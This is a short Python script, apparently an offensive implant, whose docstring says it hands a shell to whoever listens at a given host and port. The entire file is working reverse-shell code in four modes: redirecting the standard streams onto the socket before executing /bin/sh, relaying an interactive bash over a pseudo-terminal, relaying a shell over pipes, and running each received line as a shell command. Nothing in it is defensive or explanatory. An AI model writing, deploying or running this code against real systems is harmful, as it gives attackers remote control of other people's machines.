"""Gives a shell to whoever listens at the other end, as implants in Python do: shells.py HOW HOST PORT.

dup: its standard streams become the socket, then it becomes the shell. pty: a shell on a pseudo-terminal, bytes carried between
it and the socket. pipes: a shell on pipes, bytes carried likewise. commands: no shell stays; each line that comes is run and its
output sent."""

import os
import pty
import select
import socket
import subprocess
import sys

how, peer = sys.argv[1], socket.create_connection((sys.argv[2], int(sys.argv[3])), 10)
peer.settimeout(None)


def carry(read, write):
    while True:
        ready, _, _ = select.select([peer, read], [], [])
        if peer in ready:
            data = peer.recv(4096)
            if not data:
                return
            os.write(write, data)
        if read in ready:
            try:
                data = os.read(read, 4096)
            except OSError:  # the terminal's other side is gone
                return
            if not data:
                return
            peer.sendall(data)


if how == "dup":
    for number in range(3):
        os.dup2(peer.fileno(), number)
    os.execv("/bin/sh", ["sh", "-i"])
elif how == "pty":
    pid, terminal = pty.fork()
    if not pid:
        os.execv("/bin/bash", ["bash", "-i"])
    carry(terminal, terminal)
elif how == "pipes":
    shell = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    carry(shell.stdout.fileno(), shell.stdin.fileno())
else:
    for line in peer.makefile("r"):
        if line.strip() == "exit":
            break
        done = subprocess.run(line, shell=True, capture_output=True, stdin=subprocess.DEVNULL)
        peer.sendall(done.stdout + done.stderr)
